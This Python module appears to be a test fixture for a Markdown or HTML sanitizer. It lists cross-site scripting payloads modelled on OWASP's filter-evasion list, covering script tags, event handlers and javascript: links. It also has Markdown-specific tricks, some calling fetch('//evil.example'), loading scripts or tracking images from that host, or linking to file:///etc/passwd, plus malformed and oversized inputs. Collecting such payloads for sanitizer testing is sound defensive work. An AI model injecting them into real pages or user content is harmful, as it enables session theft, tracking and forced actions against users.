"""Texts that would run somewhere if shown carelessly: after OWASP's filter evasion list, and Markdown's own ways."""

CALLS = ["alert(1)", "fetch('//evil.example')"]
TAGS = [
    "<script>{}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>{}</script>",
    "<img src=x onerror={}>", '<img src=x onerror="{}"//>', "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<svg/onload={}>", "<body onload={}>", "<iframe src=javascript:{}>", "<iframe srcdoc='<script>{}</script>'>",
    "<object data=javascript:{}>", "<embed src=javascript:{}>", "<a href=javascript:{}>x</a>",
    "<a href='&#106;avascript:{}'>x</a>", "<a href=' javascript:{}'>x</a>",
    "<math><a xlink:href=javascript:{}>x</a></math>", "<form action=javascript:{}><input type=submit>",
    "<input autofocus onfocus={}>", "<details open ontoggle={}>", "<video><source onerror={}>",
    "<audio src=x onerror={}>", "<marquee onstart={}>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<link rel=stylesheet href=javascript:{}>",
    "<style>@import 'javascript:{}';</style>", '<div style="background:url(javascript:{})">x</div>',
    "<p style='width:expression({})'>x</p>", "<base href='javascript:{}//'>",
    "<template><script>{}</script></template>", '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<xmp><script>{}</script></xmp>", "<textarea><script>{}</script></textarea>", "<title><script>{}</script></title>",
    "<!--><script>{}</script>-->", "<![CDATA[<script>{}</script>]]>", "<?xml version='1.0'?><script>{}</script>",
    "<isindex action=javascript:{} type=submit>", "<table background=javascript:{}><tr><td>x",
    "<select onchange={}><option>x",
]  # fmt: skip
MARKDOWN = [
    "[x](javascript:{})", "[x](JaVaScRiPt:{})", "[x](  javascript:{})", "[x](<javascript:{}>)",
    "[x](javascript&colon;{})", "[x](&#106;&#97;vascript:{})", "[x](java%0ascript:{})",
    "[x](data:text/html,<script>{}</script>)", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:{})",
    "[x](file:///etc/passwd)", "[x](//evil.example)", "[x](/logout)", "[x](\\javascript:{})", "![x](javascript:{})",
    "![x](https://evil.example/track.gif)", "![x](data:image/svg+xml,<svg onload={}>)", '!["onerror="{}](x)',
    "<javascript:{}>", "<data:text/html,{}>", '<https://evil.example/"onmouseover="{}>', "[x]: javascript:{}\n\n[x]",
    '[x](https://a.example ""onmouseover="{}")', '[x](https://a.example/"><script>{}</script>)',
    "`<script>{}</script>`", '```"><script>{}</script>\nx\n```', '```js" onclick="{}\nx\n```',
    "    <script>{}</script>", "| <img src=x onerror={}> |\n|---|\n| [x](javascript:{}) |",
    '| x |\n|:-:" style="x|\n| y |', "# <svg onload={}>", "> <script>{}</script>", "1. <script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}", "\\<script>{}\\</script>", "**<b onmouseover={}>x</b>**",
    "~~<i onclick={}>x</i>~~", "[<script>{}</script>](https://a.example)", "[x](https://a.example/?q=javascript:{})",
    "[\u202ejavascript:{}](https://a.example)", "<a\u0000href=javascript:{}>x</a>", "[x](\u0001javascript:{})",
    "[x](javascript\u200b:{})", "<script\u2028>{}</script>",
]  # fmt: skip
ODD = [
    "", " ", "\0", "\ud800", "\udfff\ud800", "[" * 3000, "*" * 3000, "> " * 2000, "- " * 2000 + "x", "`" * 3001,
    "(" * 2000 + ")" * 2000, "![" * 2000, "<" * 5000, "&" * 5000, "|" * 3000 + "\n" + "|-" * 1500, "x" * 50_000,
    "a\n" * 5000, "\u202e" * 100, "\ufeff", "[x](" + "a" * 3000 + ")", "<!--" * 1000, "**a " * 1500, "_a " * 1500,
    "[a](b " * 800, "\t" * 3000 + "x",
]  # fmt: skip
PAYLOADS = [form.replace("{}", call) for form in TAGS + MARKDOWN for call in CALLS]
